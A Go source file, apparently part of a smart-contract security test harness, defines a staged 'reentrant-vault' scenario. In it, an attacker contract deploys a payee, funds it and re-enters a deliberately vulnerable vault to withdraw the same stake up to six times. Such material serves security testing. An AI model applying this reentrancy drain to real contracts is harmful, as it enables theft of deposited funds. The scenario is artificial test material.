package stage

import (
	"context"

	"github.com/holiman/uint256"

	"tocsin/evm"
)

const (
	payeeStake = 50_000 // whole HUSD that the attacker's contract puts in and takes out again
	payeeTimes = 6      // how often it takes them out at a time
)

// reentrantVault is the world of a vault that calls the receiver before it writes the payment down. The attacker's contract asks again
// from within the call.
func reentrantVault() world {
	payee := func(s *Stage) evm.Address { return created(s.attacker.address(), 0) }
	return world{
		World:    World{ID: "reentrant-vault", Title: "The vault pays again to whoever asks again while it is paying"},
		contract: "NotifyingVault",
		user:     firstDeposit,
		stake:    payeeStake,
		thieves:  func(s *Stage) []evm.Address { return []evm.Address{s.attacker.address(), payee(s)} },
		next: func(ctx context.Context, r *raid) (move, error) {
			at := payee(r.Stage)
			code, err := r.client.Code(ctx, at)
			if err != nil {
				return move{}, err
			}
			if len(code) == 0 {
				return moved(deploy("Payee", "make(address)", r.Vault))
			}
			stake, err := r.tokens(ctx, at)
			if err != nil {
				return move{}, err
			}
			if stake.IsZero() {
				return moved(on(r.Token, "transfer(address,uint256)", at, r.money(payeeStake)))
			}
			left, err := r.VaultBalance(ctx, nil)
			if err != nil {
				return move{}, err
			}
			times := new(uint256.Int).Div(left, r.money(payeeStake)).Uint64() + 1
			if times < 2 {
				return move{over: true}, nil
			}
			m, err := moved(on(at, "play(uint256,uint256)", r.money(payeeStake), min(times, payeeTimes)))
			m.gas = 2_000_000
			return m, err
		},
	}
}
